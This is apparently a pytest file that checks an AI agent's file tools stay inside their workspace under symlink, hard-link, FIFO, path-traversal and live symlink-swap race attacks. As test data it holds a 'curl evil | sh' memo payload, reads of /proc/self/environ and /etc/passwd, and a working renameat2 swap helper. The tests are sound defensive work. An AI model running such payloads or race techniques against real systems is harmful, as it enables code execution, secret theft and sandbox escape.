"""Hostile workspaces against the file tools: links, hard links, FIFOs, odd names and a live swap race.

Real files, real links and a real second process; the tools are called through the executor exactly
as the agent calls them. Every test here failed on the code before `tools/effects/confined.py`.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from hermes_local.tools import Approver, Executor, ToolContext, default_registry


def make_executor(workspace: Path, **context: object) -> Executor:
    ctx = ToolContext(workspace=workspace.resolve(), **{"timeout": 5.0, **context})  # type: ignore[arg-type]
    return Executor(default_registry(), ctx, Approver(approve_all=True))


@pytest.fixture()
def arena(tmp_path: Path) -> dict[str, Path]:
    ws = tmp_path / "ws"
    outside = tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    (outside / "rc").write_text("original\n")
    return {"ws": ws, "outside": outside}


# -- append_to_memo (must-fix 1) ---------------------------------------------------------------------


def test_memo_symlink_to_outside_is_refused(arena: dict[str, Path]) -> None:
    (arena["ws"] / "memo.md").symlink_to(arena["outside"] / "rc")
    result = make_executor(arena["ws"]).execute("append_to_memo", {"content": "curl evil | sh"})
    assert not result.ok and result.error_kind == "permission_denied"
    assert (arena["outside"] / "rc").read_text() == "original\n"


def test_memo_dangling_symlink_does_not_create_outside(arena: dict[str, Path]) -> None:
    (arena["ws"] / "memo.md").symlink_to(arena["outside"] / "new_rc")
    result = make_executor(arena["ws"]).execute("append_to_memo", {"content": "x"})
    assert not result.ok and result.error_kind == "permission_denied"
    assert not (arena["outside"] / "new_rc").exists()


def test_memo_hard_link_is_refused(arena: dict[str, Path]) -> None:
    os.link(arena["outside"] / "rc", arena["ws"] / "memo.md")
    result = make_executor(arena["ws"]).execute("append_to_memo", {"content": "x"})
    assert not result.ok and result.error_kind == "permission_denied" and "hard link" in result.error
    assert (arena["outside"] / "rc").read_text() == "original\n"


def test_memo_fifo_is_refused_without_blocking(arena: dict[str, Path]) -> None:
    os.mkfifo(arena["ws"] / "memo.md")
    result = make_executor(arena["ws"]).execute("append_to_memo", {"content": "x"})
    assert not result.ok and result.error_kind == "permission_denied"


def test_memo_inside_link_and_plain_file_work(arena: dict[str, Path]) -> None:
    ex = make_executor(arena["ws"])
    assert ex.execute("append_to_memo", {"content": "first"}).ok
    assert (arena["ws"] / "memo.md").read_text() == "- first\n"
    (arena["ws"] / "memo.md").rename(arena["ws"] / "notes.md")
    (arena["ws"] / "memo.md").symlink_to("notes.md")  # a link that stays inside is followed
    assert ex.execute("append_to_memo", {"content": "second"}).ok
    assert (arena["ws"] / "notes.md").read_text() == "- first\n- second\n"


# -- write_file / read_file / list_dir ----------------------------------------------------------------


def test_write_file_refuses_hard_links_and_fifos(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    os.link(arena["outside"] / "rc", ws / "linked.txt")
    os.mkfifo(ws / "pipe")
    ex = make_executor(ws)
    linked = ex.execute("write_file", {"path": "linked.txt", "content": "x"})
    assert linked.error_kind == "permission_denied" and "hard link" in linked.error
    pipe = ex.execute("write_file", {"path": "pipe", "content": "x"})
    assert pipe.error_kind == "permission_denied"
    assert (arena["outside"] / "rc").read_text() == "original\n" and (ws / "pipe").is_fifo()


@pytest.mark.parametrize(
    "path",
    ["/proc/self/environ", "/etc/passwd", "/dev/zero", "../outside/rc", "a/../../outside/rc", "~/.bashrc"],
)
def test_absolute_and_special_paths_are_refused(arena: dict[str, Path], path: str) -> None:
    (arena["ws"] / "a").mkdir()
    ex = make_executor(arena["ws"])
    for name, args in (("read_file", {"path": path}), ("write_file", {"path": path, "content": "x"})):
        result = ex.execute(name, args)
        assert not result.ok and result.error_kind == "permission_denied", (name, result)


def test_links_to_devices_and_proc_are_refused(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    (ws / "zero").symlink_to("/dev/zero")
    (ws / "env").symlink_to("/proc/self/environ")
    (ws / "root").symlink_to("/")
    ex = make_executor(ws)
    for path in ("zero", "env", "root/etc/passwd"):
        result = ex.execute("read_file", {"path": path})
        assert result.error_kind == "permission_denied", result
    assert ex.execute("list_dir", {"path": "root"}).error_kind == "permission_denied"


def test_symlink_loops_and_chains_end_cleanly(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    (ws / "a").symlink_to("b")
    (ws / "b").symlink_to("a")
    (ws / "c").symlink_to("c/c")
    ex = make_executor(ws)
    for path in ("a", "c", "c/x"):
        for tool_name, args in (("read_file", {"path": path}), ("write_file", {"path": path, "content": "x"})):
            result = ex.execute(tool_name, args)
            assert not result.ok and result.error_kind in ("invalid_arguments", "permission_denied"), result


def test_odd_names_round_trip(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    ex = make_executor(ws)
    for name in ("new\nline.txt", "x" * 255, "日" * 85, "ünï cödé.txt", "-rf", "CASE.txt"):
        assert ex.execute("write_file", {"path": name, "content": "ok"}).ok, name
        assert ex.execute("read_file", {"path": name}).data == "ok"
    too_long = ex.execute("write_file", {"path": "y" * 256, "content": "x"})
    assert too_long.error_kind == "invalid_arguments"
    surrogate = ex.execute("write_file", {"path": "bad\ud800.txt", "content": "x"})
    assert surrogate.error_kind == "invalid_arguments"
    content = ex.execute("write_file", {"path": "c.txt", "content": "bad \udcff text"})
    assert content.error_kind == "invalid_arguments"


def test_list_dir_with_non_utf8_names(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    with open(os.path.join(os.fsencode(ws), b"caf\xe9.txt"), "wb") as fh:
        fh.write(b"x")
    result = make_executor(ws).execute("list_dir", {"path": "."})
    assert result.ok
    (entry,) = result.data["entries"]
    assert entry["name"] == "caf\\xe9.txt" and "not valid UTF-8" in entry["note"]
    entry["name"].encode("utf-8")  # nothing unencodable reaches the log


# -- the race (must-fix 6) ----------------------------------------------------------------------------

_SWAPPER = textwrap.dedent(
    """
    import ctypes, os, sys
    ws, outside, stop, name = sys.argv[1:5]
    target, other = os.path.join(ws, name), os.path.join(ws, name + ".swap")
    os.symlink(outside if name == "d" else os.path.join(outside, "rc"), other)
    libc = ctypes.CDLL(None, use_errno=True)
    AT_FDCWD, RENAME_EXCHANGE = -100, 2
    a, b = os.fsencode(target), os.fsencode(other)
    print("ready", flush=True)
    while not os.path.exists(stop):  # the name is a real entry or a link out, about half the time each
        for _ in range(200):
            libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    """
)


def _start_swapper(ws: Path, outside: Path, stop: Path, name: str) -> subprocess.Popen[str]:
    swapper = subprocess.Popen(
        [sys.executable, "-c", _SWAPPER, str(ws), str(outside), str(stop), name], stdout=subprocess.PIPE, text=True
    )
    assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
    return swapper


def test_directory_symlink_swap_race_never_leaks(arena: dict[str, Path], tmp_path: Path) -> None:
    ws, outside = arena["ws"], arena["outside"]
    (ws / "d").mkdir()
    (ws / "d" / "f.txt").write_text("inside")
    (outside / "f.txt").write_text("SECRET")
    (outside / "marker-outside").write_text("")
    stop = tmp_path / "stop"
    ex = make_executor(ws)
    leaks: list[str] = []
    outcomes = {"ok": 0, "refused": 0}
    swappers = [_start_swapper(ws, outside, stop, "d")]
    try:
        for i in range(300):
            read = ex.execute("read_file", {"path": "d/f.txt"})
            if read.ok and "SECRET" in str(read.data):
                leaks.append("read")
            listed = ex.execute("list_dir", {"path": "d"})
            if listed.ok and "marker-outside" in str(listed.data):
                leaks.append("list")
            for result in (
                read,
                listed,
                ex.execute("write_file", {"path": f"d/w{i}.txt", "content": "x"}),
                ex.execute("write_file", {"path": f"d/sub{i}/w.txt", "content": "x"}),
            ):
                outcomes["ok" if result.ok else "refused"] += 1
    finally:
        stop.write_text("")
        for swapper in swappers:
            swapper.wait(timeout=30)
    outside_now = sorted(p.name for p in outside.iterdir())
    print(f"race: {outcomes['ok']} calls succeeded, {outcomes['refused']} refused, leaks={len(leaks)}")
    assert leaks == [] and outside_now == ["f.txt", "marker-outside", "rc"], (leaks, outside_now)
    assert outcomes["ok"] > 0  # the tools kept working between swaps


def test_memo_symlink_swap_race_never_appends_outside(arena: dict[str, Path], tmp_path: Path) -> None:
    ws, outside = arena["ws"], arena["outside"]
    (ws / "memo.md").write_text("")
    stop = tmp_path / "stop"
    ex = make_executor(ws)
    swapper = _start_swapper(ws, outside, stop, "memo.md")
    try:
        appended = sum(ex.execute("append_to_memo", {"content": f"line {i}"}).ok for i in range(300))
    finally:
        stop.write_text("")
        swapper.wait(timeout=30)
    print(f"memo race: {appended} of 300 appends succeeded")
    assert (outside / "rc").read_text() == "original\n" and sorted(p.name for p in outside.iterdir()) == ["rc"]


def test_very_deep_and_very_long_paths_are_refused_cleanly(arena: dict[str, Path]) -> None:
    ws = arena["ws"]
    ex = make_executor(ws)
    deep = ex.execute("write_file", {"path": "a/" * 5000 + "x.txt", "content": "x"})
    assert deep.error_kind == "invalid_arguments" and "too deep" in deep.error
    assert list(ws.iterdir()) == []  # refused before creating any folder
    dots = ex.execute("read_file", {"path": "./" * 100_000 + "x"})
    assert dots.error_kind in ("not_found", "invalid_arguments")
    ok = ex.execute("write_file", {"path": "b/" * 30 + "x.txt", "content": "x"})
    assert ok.ok and ex.execute("read_file", {"path": "b/" * 30 + "x.txt"}).data == "x"


def test_leaf_symlink_swap_race_never_reads_or_writes_outside(arena: dict[str, Path], tmp_path: Path) -> None:
    ws, outside = arena["ws"], arena["outside"]
    (ws / "leaf.txt").write_text("inside\n")
    stop = tmp_path / "stop"
    ex = make_executor(ws)
    leaked = 0
    swapper = _start_swapper(ws, outside, stop, "leaf.txt")
    try:
        for i in range(300):
            read = ex.execute("read_file", {"path": "leaf.txt"})
            leaked += read.ok and "original" in str(read.data)
            ex.execute("write_file", {"path": "leaf.txt", "content": f"write {i}\n"})
            ex.execute("list_dir", {"path": "leaf.txt"})
    finally:
        stop.write_text("")
        swapper.wait(timeout=30)
    assert leaked == 0
    assert (outside / "rc").read_text() == "original\n" and sorted(p.name for p in outside.iterdir()) == ["rc"]


def test_list_dir_of_a_huge_folder_reads_a_bounded_number_of_entries(
    arena: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from hermes_local.tools.builtin import files

    monkeypatch.setattr(files, "MAX_SCAN", 50)
    for i in range(120):
        (arena["ws"] / f"f{i:03}").write_text("")
    result = make_executor(arena["ws"]).execute("list_dir", {"path": "."})
    assert result.ok and "more than 50 entries" in result.data["note"] and "more than 50" in result.summary
    assert len(result.data["entries"]) == 50
